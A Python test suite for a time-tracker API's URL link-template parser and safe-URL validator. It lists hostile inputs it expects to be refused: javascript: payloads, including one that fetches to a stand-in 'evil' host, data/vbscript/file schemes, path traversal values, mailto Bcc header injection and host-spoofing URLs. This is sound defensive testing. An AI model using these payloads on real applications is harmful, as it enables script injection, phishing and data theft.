"""Link templates: whatever is saved and whatever is put in, a link leads where its template says.

`pydantic_core.Url` is the WHATWG parser, so it reads a URL as browsers do.
"""

import re
from collections.abc import Mapping
from contextlib import suppress
from decimal import Decimal
from urllib.parse import unquote

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from pydantic_core import Url

from timetracker_api.link_templates.template import (
    MAX_TEMPLATE,
    NATIVE,
    PLACEHOLDERS,
    NoLink,
    Template,
    parse,
)
from timetracker_api.urls import MAX_URL, SCHEMES, LinkFault, safe_url

bounded = settings(
    max_examples=200,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.filter_too_much, HealthCheck.too_slow],
)


def read(source: str) -> Template:
    return parse(source, schemes=SCHEMES)


def render(template: Template, values: Mapping[str, object]) -> str | None:
    try:
        return template.link(values)
    except NoLink:
        return None


def fault(source: str, schemes: frozenset[str] = SCHEMES) -> tuple[str, int]:
    with pytest.raises(LinkFault) as caught:
        parse(source, schemes=schemes)
    assert str(caught.value) == caught.value.sentence
    assert caught.value.sentence.endswith(".")
    return caught.value.code, caught.value.position


GOOD = [
    ("https://erp.example/debtors/{value}", {"value": "D-1001"}, "/debtors/D-1001"),
    ("https://erp.example/debtors/%value%", {"value": "D-1001"}, "/debtors/D-1001"),
    ("https://erp.example/{value}/%value%/{value}", {"value": 7}, "/7/7/7"),
    ("https://erp.example/{value}%20%value%20", {"value": 7}, "/7%20720"),
    ("https://erp.example/%41%2525%7bx%7d/{value}", {"value": 7}, "/%41%2525%7bx%7d/7"),
    ("https://erp.example?id={value}", {"value": "1&admin=1#x"}, "?id=1%26admin%3D1%23x"),
    ("https://erp.example#/c/{value}", {"value": "a/b"}, "#/c/a%2Fb"),
    ("https://erp.example/?f[id]={value}&n=!$'()*,;:@", {"value": 1}, "/?f[id]=1&n=!$'()*,;:@"),
    ("https://erp.example/{value}.pdf", {"value": "Köln 100%"}, "/K%C3%B6ln%20100%25.pdf"),
    (
        "https://erp.example/{client.id}.{project.code}",
        {"client.id": 1, "project.code": "."},
        "/1..",
    ),
    ("https://erp.example/..{value}", {"value": "x"}, "/..x"),
    ("https://erp.example/v/{custom.debtor_number}", {"custom.debtor_number": 5}, "/v/5"),
    ("https://erp.example/{value}", {"value": 0}, "/0"),
    ("https://erp.example/{value}", {"value": False}, "/false"),
    ("https://erp.example/{value}", {"value": True}, "/true"),
    ("https://erp.example/{value}", {"value": Decimal("1.50")}, "/1.50"),
    ("https://erp.example/{value}", {"value": Decimal("1E+3")}, "/1000"),
    ("https://erp.example/{value}", {"value": 0.5}, "/0.5"),
    ("https://erp.example/{value}", {"value": "..."}, "/..."),
    ("https://erp.example/{value}", {"value": "a..b"}, "/a..b"),
    ("https://erp.example/{value}", {"value": "{client.name}"}, "/%7Bclient.name%7D"),
    ("https://erp.example/{value}", {"value": "javascript:alert(1)"}, "/javascript%3Aalert%281%29"),
    ("https://erp.example/?x=/{value}", {"value": ".."}, "/?x=/.."),
    ("https://erp.example/a#/../{value}", {"value": ".."}, "/a#/../.."),
]


@pytest.mark.parametrize(("source", "values", "rest"), GOOD)
def test_a_good_template_becomes_a_link(source: str, values: Mapping[str, object], rest: str):
    assert render(read(source), values) == "https://erp.example" + rest


@pytest.mark.parametrize(
    "start",
    [
        "http://localhost:8069/",
        "HTTPS://ERP.Example/",
        "https://192.168.0.10:8443/",
        "https://[fd00::1]:8443/",
        "https://xn--kln-sna.example/",
        "https://a-b.c--d.example?",
        "https://erp.example#",
    ],
)
def test_names_and_addresses_are_hosts(start: str):
    template = read(start + "{value}")
    assert render(template, {"value": "x"}) == start + "x"
    assert template.scheme == start.partition(":")[0].lower()


@pytest.mark.parametrize(
    ("source", "value", "link"),
    [
        ("mailto:{value}", "ann+x@acme.example", "mailto:ann%2Bx@acme.example"),
        ("mailto:{value}@acme.example", "o'hara", "mailto:o%27hara@acme.example"),
        ("mailto:{value}", "jörg@köln.example", "mailto:j%C3%B6rg@k%C3%B6ln.example"),
        ("mailto:{value}", "a@b.example?cc=x@evil.example", None),
        ("mailto:{value}", "a@b.example,x@evil.example", None),
        ("mailto:{value}", "a@b.example;x", None),
        ("mailto:{value}", "a@b@c.example", None),
        ("mailto:{value}", "a%2Cx@b.example", None),
        ("mailto:{value}", "nobody", None),
        ("mailto:{value}", "a@b.example\r\nBcc: x@evil.example", None),
        ("mailto:?subject={value}", "a&bcc=x@y", "mailto:?subject=a%26bcc%3Dx@y"),
        ("mailto:?subject={value}", "a\r\nBcc: x@y", None),
        ("mailto:?body=Hi%0D%0A{value}&cc=a@b.example", 1, "mailto:?body=Hi%0D%0A1&cc=a@b.example"),
        ("tel:{value}", "+49 (30) 12-34/5.6", "tel:+4930123456"),
        ("tel:+49-30-{value};ext=12", 1234, "tel:+49-30-1234;ext=12"),
        ("tel:{value}", "1234;ext=9", None),
        ("tel:{value}", "*#06#", None),
        ("tel:{value}", "1234,,5", None),
        ("tel:+49{value}", "+4930", None),
        ("tel:{value}", "ask Ann", None),
        ("tel:{value}", "٣٤٥", None),
        ("tel:+49{value}", "-", None),
    ],
)
def test_mail_and_telephone_links_take_one_address_or_number(
    source: str, value: object, link: str | None
):
    assert render(read(source), {"value": value}) == link


ERP = "https://erp.example/"
HOSTILE = [
    ("{value}", "scheme", 0),
    ("", "scheme", 0),
    ("/x/{value}", "scheme", 0),
    ("//erp.example/{value}", "scheme", 0),
    ("erp.example/{value}", "scheme", 0),
    ("ht{value}tps://erp.example/", "scheme", 0),
    ("javascript:fetch('//evil/'+'{value}')", "scheme", 0),
    ("JavaScript://erp.example/%0aalert({value})", "scheme", 0),
    ("data:text/html,{value}", "scheme", 0),
    ("vbscript:{value}", "scheme", 0),
    ("file:///etc/{value}", "scheme", 0),
    ("blob:https://erp.example/{value}", "scheme", 0),
    ("ftp://erp.example/{value}", "scheme", 0),
    ("java\tscript:{value}", "character", 4),
    (" javascript:{value}", "character", 0),
    ("\x01javascript:{value}", "character", 0),
    (ERP + "a b/{value}", "character", 21),
    (ERP + "{value}\n", "character", 27),
    (ERP + "\x00{value}", "character", 20),
    (ERP + "\u202e{value}", "character", 20),
    (ERP + "ü{value}", "character", 20),
    (ERP + '"{value}', "character", 20),
    (ERP + "\ud800{value}", "character", 20),
    ("https:/\\evil.example/{value}", "character", 7),
    ("https://erp.example\\{value}", "character", 19),
    ("https://erp。example/{value}", "character", 11),
    ("https:erp.example/{value}", "host", 6),
    ("https:/erp.example/{value}", "host", 6),
    ("https:///evil.example/{value}", "host", 8),
    ("https://?{value}", "host", 8),
    ("https://erp..example/{value}", "host", 8),
    ("https://-erp.example/{value}", "host", 8),
    ("https://erp%2eexample/{value}", "host", 8),
    ("https://e;rp/{value}", "host", 8),
    ("https://0x7f.1/{value}", "host", 8),
    ("https://2130706433/{value}", "host", 8),
    ("https://127.0.0.01/{value}", "host", 8),
    ("https://[::1/{value}", "host", 8),
    ("https://[fe80::1%25en0]/{value}", "host", 8),
    (f"https://{'a.' * 126}example/{{value}}", "host", 8),
    ("https://erp.example:/{value}", "port", 19),
    ("https://erp.example:0/{value}", "port", 19),
    ("https://erp.example:65536/{value}", "port", 19),
    ("https://[::1]:x/{value}", "port", 13),
    ("https://{value}", "authority", 8),
    ("https://{value}.example/", "authority", 8),
    ("https://erp.example{value}", "authority", 19),
    ("https://erp.example%value%/", "authority", 19),
    ("https://erp.example:{value}/", "authority", 20),
    ("https://erp.example:443{value}", "authority", 23),
    ("https://{value}@erp.example/", "authority", 8),
    ("https://erp.example@evil.example/{value}", "userinfo", 19),
    ("https://a:b@erp.example/{value}", "userinfo", 11),
    ("https://erp.example", "no_placeholder", 19),
    (ERP + "%41", "no_placeholder", 23),
    (ERP + "{{value}}", "brace", 20),
    (ERP + "{value", "brace", 20),
    (ERP + "{value}}", "brace", 27),
    (ERP + "%value", "percent", 20),
    (ERP + "%VALUE%", "percent", 20),
    (ERP + "100%/{value}", "percent", 23),
    (ERP + "%4{value}", "percent", 20),
    (ERP + "%{value}", "percent", 20),
    (ERP + "%u0041{value}", "percent", 20),
    (ERP + "{}", "unknown_placeholder", 20),
    (ERP + "{0}", "unknown_placeholder", 20),
    (ERP + "{ value }", "unknown_placeholder", 20),
    (ERP + "{value}/{value.__class__.__mro__}", "unknown_placeholder", 28),
    (ERP + "{value!r}", "unknown_placeholder", 20),
    (ERP + "{value:>99999999}", "unknown_placeholder", 20),
    (ERP + "{value[0]}", "unknown_placeholder", 20),
    (ERP + "{client}", "unknown_placeholder", 20),
    (ERP + "{client.password}", "unknown_placeholder", 20),
    (ERP + "{custom.Key}", "unknown_placeholder", 20),
    (ERP + "{custom.key\n}", "unknown_placeholder", 20),
    (ERP + "{custom.__class__}", "unknown_placeholder", 20),
    (ERP + f"{{custom.{'k' * 64}}}", "unknown_placeholder", 20),
    (ERP + ".{value}", "dot_segment", 20),
    (ERP + "a/{value}.", "dot_segment", 22),
    (ERP + "%2E%value%/a", "dot_segment", 20),
    (ERP + "a%2f%252e{value}", "dot_segment", 24),
    (ERP + "../{value}", "dot_segment", 20),
    (ERP + "a/./{value}", "dot_segment", 22),
    (ERP + "a/%2e./{value}", "dot_segment", 22),
    (ERP + "{value}/..;x", "dot_segment", 28),
    (ERP + "a" * MAX_TEMPLATE, "too_long", MAX_TEMPLATE),
    ("mailto://{value}", "address", 7),
    ("mailto:a@b.example,{value}", "address", 7),
    ("mailto:a@b.example%2C{value}", "address", 7),
    ("mailto:a#{value}", "address", 7),
    ("mailto:?attach={value}", "header", 8),
    ("mailto:a@b.example?subject=a&bcc={value}", "header", 29),
    ("mailto:?{value}=x", "header", 8),
    ("mailto:?subject=a%0d%0aBcc:x&body={value}", "header", 8),
    ("tel://{value}", "number", 4),
    ("tel:*21*{value}", "number", 4),
    ("tel:1;phone-context={value}", "number", 4),
]


@pytest.mark.parametrize(("source", "code", "position"), HOSTILE)
def test_a_hostile_template_is_refused_where_it_is_wrong(source: str, code: str, position: int):
    assert fault(source) == (code, position)


@pytest.mark.parametrize("scheme", ["javascript", "data", "vbscript", "file", "blob", "ftp"])
def test_no_setting_allows_a_dangerous_scheme(scheme: str):
    allowed = SCHEMES | {scheme}
    assert fault(f"{scheme}://erp.example/{{value}}", allowed) == ("scheme", 0)
    assert not safe_url(f"{scheme}://erp.example/", allowed)


def test_a_setting_narrows_the_schemes():
    only = frozenset({"https"})
    assert fault("http://erp.example/{value}", only) == ("scheme", 0)
    assert fault("tel:{value}", only) == ("scheme", 0)
    assert parse(ERP + "{value}", schemes=only).scheme == "https"
    assert not safe_url("http://erp.example/", only)


@pytest.mark.parametrize(
    "value",
    [
        *(None, "", ".", "..", "%2e", "%2E.", "%252e%252E", "../../admin", "..\\admin", "a/../b"),
        *("a\x00", "a\nb", "\x7f", "\x85", "\u2028", "\ud800", "x" * (MAX_URL + 1), "ü" * 1000),
        *("..;x", float("nan"), float("inf"), Decimal("sNaN"), Decimal("-Infinity")),
        *(Decimal("1E+999999"), Decimal("1E-999999"), 1e308),
        *(b"bytes", ["a"], {"a": 1}, object),
    ],
    ids=lambda value: ascii(value)[:20],
)
def test_a_value_that_cannot_be_part_of_a_path_makes_no_link(value: object):
    assert render(read(ERP + "{value}"), {"value": value}) is None


@pytest.mark.parametrize("sign", [1, -1])
def test_an_integer_too_long_to_write_makes_no_link(sign: int):
    assert render(read(ERP + "{value}"), {"value": sign * 10**5000}) is None


def test_dots_are_found_when_several_values_and_literals_make_them():
    assert render(read(ERP + "{client.id}{task.id}/x"), {"client.id": ".", "task.id": "."}) is None
    assert render(read(ERP + "%25{value}"), {"value": "2e"}) is None
    assert render(read(ERP + "a%2F{value}"), {"value": ".."}) is None
    assert render(read(ERP + "{value};v=1"), {"value": ".."}) is None


def test_a_link_needs_all_its_values():
    template = read(ERP + "{client.id}/{custom.branch}")
    assert render(template, {"client.id": 0}) is None
    assert render(template, {"client.id": 0, "custom.branch": "b", "value": "x"}) == ERP + "0/b"


def test_a_template_tells_which_values_it_needs_and_where():
    template = read(ERP + "{client.id}/%value%/{custom.branch}/{value}")
    assert template.placeholders == {"client.id": 20, "value": 32, "custom.branch": 40}
    assert template.source == ERP + "{client.id}/%value%/{custom.branch}/{value}"


@pytest.mark.parametrize("name", sorted(PLACEHOLDERS))
def test_every_listed_placeholder_is_understood(name: str):
    assert render(read(f"{ERP}{{{name}}}"), {name: 1}) == ERP + "1"
    entity, _, attribute = name.partition(".")
    assert name == "value" or attribute in NATIVE[entity]


def test_lengths_count_the_encoded_link():
    template = read(ERP + "{value}")
    assert render(template, {"value": "x" * (MAX_URL - len(ERP))}) is not None
    assert render(template, {"value": "x" * (MAX_URL - len(ERP) + 1)}) is None
    assert render(template, {"value": "/" * (MAX_URL // 3)}) is None
    longest = ERP + "{value}" * 282
    assert render(read(longest), {"value": "\U0001f600" * MAX_URL}) is None


@pytest.mark.parametrize(
    "url",
    [
        "https://erp.example",
        "https://erp.example:8443/a/../b?x={1}|2&y=100%#top",
        "https://de.wikipedia.org/wiki/Köln",
        "HTTP://[::1]/",
        "mailto:ann@acme.example?subject=Hello",
        "tel:+49-30-1234",
    ],
    ids=ascii,
)
def test_a_safe_url_is_a_link_as_it_stands(url: str):
    assert safe_url(url, SCHEMES)


@pytest.mark.parametrize(
    "url",
    [
        "mailto:ann",
        "mailto:a@b.example,c@d.example",
        "tel:*#06#",
        "",
        "erp.example",
        "//erp.example/",
        "https:///evil.example",
        "https:evil.example",
        "https:/\\evil.example",
        "https://a@evil.example/",
        "https://köln.example/",
        "https://erp.example/\u202egpj",
        "https://erp.example/a b",
        "https://erp.example/\n",
        "\x01https://erp.example/",
        "https://erp.example/\x00",
        "https://erp.example/\ud800",
        "https://erp.example/\u3000",
        'https://erp.example/"onclick=',
        "mailto:\x00",
        "java\tscript:alert(1)",
        "https://erp.example/" + "a" * MAX_URL,
    ],
    ids=lambda url: ascii(url)[:40],
)
def test_a_url_that_could_be_misread_is_no_link(url: str):
    assert not safe_url(url, SCHEMES)


NAMES = ("value", "client.name", "project.code", "custom.branch")
SLOTS = ["%value%", *(f"{{{name}}}" for name in NAMES)]
NOISE = [*SLOTS, *"./?#&=;:@%{}\\ \t\nü", "..", "%2e", "%2F", "%25", "a", "x-1", "2e", "%"]
BREAKERS = [".", "..", "%2e", "2e", "/", "\\", "?", "#", "&a=b", "@", ":", ";", "\r\n", "\x00", "%"]

starts = st.sampled_from(
    [
        *("https://erp.example/", "http://[::1]:80/a", "https://10.0.0.1?", "HTTPS://Erp.example#"),
        *(
            "mailto:",
            "mailto:?subject=",
            "tel:",
            "tel:+49",
            "https://",
            "https:",
            "javascript:",
            "",
        ),
    ]
)
rests = st.lists(st.sampled_from(NOISE), max_size=8).map("".join)
sources = st.tuples(starts, rests, st.sampled_from(SLOTS)).map("".join)
paths = st.lists(st.sampled_from([*SLOTS, ".", "..", "/", "%2e", "%25", "a", ";"]), max_size=8)
scalars = st.one_of(
    st.lists(st.sampled_from(BREAKERS), min_size=1, max_size=4).map("".join),
    st.text(st.characters(), max_size=20),
    st.text("0123456789+ a@.b", min_size=1, max_size=12),
    st.integers(),
    st.booleans(),
    st.floats(),
    st.decimals(),
    st.none(),
    st.binary(max_size=4),
    st.lists(st.text(max_size=2), max_size=2),
)
records = st.fixed_dictionaries(dict.fromkeys(NAMES, scalars))


def without_placeholders(source: str, substitute: str = "") -> str:
    return re.sub(r"%value%|\{[^{}]*\}", substitute, source)


def shape(url: Url) -> tuple[object, ...]:
    """What values must not change, as a browser reads it."""
    path = url.path or ""
    absent = (url.query is None, url.fragment is None)
    return url.scheme, url.username, url.password, url.host, url.port, path.count("/"), *absent


def assert_that_nothing_broke_out(source: str, rendered: str) -> None:
    literal = without_placeholders(source)
    assert len(rendered) <= MAX_URL
    assert rendered.isascii()
    assert rendered.isprintable()
    assert " " not in rendered
    for delimiter in "?#&=/":
        assert rendered.count(delimiter) == literal.count(delimiter)
    assert shape(Url(rendered)) == shape(Url(without_placeholders(source, "1")))


@bounded
@given(sources, records)
@example("https://erp.example/{value}/b", {"value": ".."})
@example("https://erp.example/{value}{custom.branch}", {"value": ".", "custom.branch": "%2e"})
@example("tel:{value}", {"value": "+1"})
def test_no_value_breaks_out_of_any_accepted_template(source: str, values: dict[str, object]):
    with suppress(LinkFault):
        if (rendered := render(read(source), values)) is not None:
            assert_that_nothing_broke_out(source, rendered)


@bounded
@given(paths, st.sampled_from(SLOTS), records)
def test_no_value_leaves_its_path_segment(path: list[str], slot: str, values: dict[str, object]):
    source = "https://erp.example/app/" + "".join(path) + slot + "/end"
    with suppress(LinkFault):
        if (rendered := render(read(source), values)) is not None:
            assert_that_nothing_broke_out(source, rendered)
            assert str(Url(rendered)) == rendered


@bounded
@given(st.one_of(st.text(max_size=60), rests))
def test_any_text_is_a_template_or_has_a_fault_inside_it(text: str):
    source = "https://" + text
    try:
        template = read(source)
    except LinkFault as found:
        position = found.position
    else:
        position = min(template.placeholders.values())
    assert 0 <= position <= len(source)


@bounded
@given(st.text(min_size=1, max_size=40))
def test_what_a_link_carries_is_the_value(value: str):
    rendered = render(read("https://erp.example/?q={value}"), {"value": value})
    assume(rendered is not None)
    assert rendered is not None
    assert unquote(rendered.partition("=")[2]) == value


@bounded
@given(st.one_of(st.text(max_size=60), sources))
def test_a_safe_url_leads_to_the_host_it_shows(text: str):
    for url in (text, "https://erp.example/" + text, "https://" + text):
        if safe_url(url, SCHEMES) and url.lower().startswith("http"):
            shown = url.partition("://")[2]
            host = re.split(r"[/?#]", shown)[0].lower()
            read_as = Url(url)
            assert host.removesuffix(f":{read_as.port}") == read_as.host
